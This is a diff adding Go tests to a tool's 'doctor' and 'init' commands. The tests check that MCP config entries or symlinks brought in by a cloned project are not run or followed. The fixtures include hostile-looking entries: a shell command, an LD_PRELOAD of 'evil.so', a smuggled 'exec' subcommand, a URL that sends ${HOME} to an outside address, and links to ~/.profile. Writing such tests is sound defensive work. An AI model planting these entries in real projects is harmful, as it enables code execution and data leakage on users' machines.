@@ -845,12 +845,80 @@ func TestDoctorFinds(t *testing.T) {
 		"refusing": {entry(script("refusing", `read a; echo '{"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"no"}}'`)), "the server refuses: no"},
 		"address":  {`{"mcpServers":{"resilientwrite":{"url":"http://127.0.0.1:1/mcp"}}}`, "nothing answers"},
 	} {
-		d.write(".cursor/mcp.json", one.text, 0o600)
+		d.write("~/.cursor/mcp.json", one.text, 0o600)
 		reply, code := d.run("doctor", "cursor")
 		e := entriesOf(t, reply)["cursor"]
 		if problem, _ := e["problem"].(string); code != int(rw.CodeInvalid) || e["works"] != false || !strings.Contains(problem, one.want) || strings.Contains(problem, secret) {
 			t.Errorf("%s: %d %v", name, code, e)
 		}
+	}
+}
+
+// TestDoctorTriesNothingThatACloneBrought: an entry in a file of the project runs
+// no other program, not this one with other variables or another subcommand, and
+// sends nothing to another machine.
+func TestDoctorTriesNothingThatACloneBrought(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("the program of this test is a shell script")
+	}
+	d := newDesk(t)
+	d.write("evil/resilient-write", "#!/bin/sh\ntouch '"+d.path("ran")+"'\n", 0o755)
+	own := build(t)
+	for name, entry := range map[string]string{
+		"relative":   `{"command":"./evil/resilient-write","args":["serve"]}`,
+		"whole":      `{"command":"` + d.path("evil/resilient-write") + `","args":["serve"]}`,
+		"below":      `{"command":"evil/resilient-write","cwd":"."}`,
+		"shell":      `{"command":"sh","args":["-c","touch ran"]}`,
+		"subcommand": `{"command":"` + own + `","args":["--sync","off","exec","--","touch","ran"]}`,
+		"variable":   `{"command":"` + own + `","args":["serve"],"env":{"LD_PRELOAD":"./evil.so"}}`,
+		"address":    `{"url":"http://192.0.2.1/mcp","headers":{"A":"${HOME}"}}`,
+		"name":       `{"url":"http://localhost.example/mcp"}`,
+	} {
+		d.write(".cursor/mcp.json", `{"mcpServers":{"resilientwrite":`+entry+`}}`, 0o600)
+		reply, code := d.run("doctor", "--root", d.project, "cursor")
+		e := entriesOf(t, reply)["cursor"]
+		if problem, _ := e["problem"].(string); code != int(rw.CodeInvalid) || !strings.HasPrefix(problem, "not tried: ") {
+			t.Errorf("%s: %d %v", name, code, e)
+		}
+		if _, err := os.Stat(d.path("ran")); err == nil {
+			t.Errorf("%s: the program ran", name)
+		}
+	}
+}
+
+// TestInitFollowsNoLinkOutOfTheProject: a link that a clone brought does not make
+// init write to a file of the user, or make one; nor is a link to nothing replaced.
+func TestInitFollowsNoLinkOutOfTheProject(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("links need a privilege")
+	}
+	for name, to := range map[string]string{
+		"AGENTS.md": "~/.profile", "opencode.json": "~/.hub.json", ".opencode": "~/bin", ".opencode/plugins": "~/bin", "~/.config/opencode/opencode.json": "~/none",
+	} {
+		d := newDesk(t)
+		d.write("~/.profile", "export A=1\n", 0o600)
+		d.write("~/.hub.json", "{}", 0o600)
+		d.write("~/bin/x", "x", 0o700)
+		noErr(t, os.MkdirAll(filepath.Dir(d.path(name)), 0o755))
+		noErr(t, os.Symlink(d.path(to), d.path(name)))
+		before, scope := d.tree(), "project"
+		if strings.HasPrefix(name, "~") {
+			scope = "user"
+		}
+		reply, code := d.run("init", "opencode", "--hooks", "--scope", scope)
+		if said, _ := json.Marshal(reply); code != int(rw.CodeInvalid) || !strings.Contains(string(said), "link") {
+			t.Errorf("%s: %d %s", name, code, said)
+		}
+		if diff := cmp.Diff(before, d.tree()); diff != "" {
+			t.Errorf("%s: %s", name, diff)
+		}
+		must(os.Readlink(d.path(name)))(t, name)
+	}
+	d := newDesk(t) // a link within the project
+	d.write("CLAUDE.md", "mine\n", 0o600)
+	noErr(t, os.Symlink("CLAUDE.md", d.path("AGENTS.md")))
+	if _, code := d.run("init", "opencode"); code != 0 || !strings.Contains(d.tree()["CLAUDE.md"], "rw_undo") {
+		t.Errorf("%d %v", code, d.tree())
 	}
 }
 
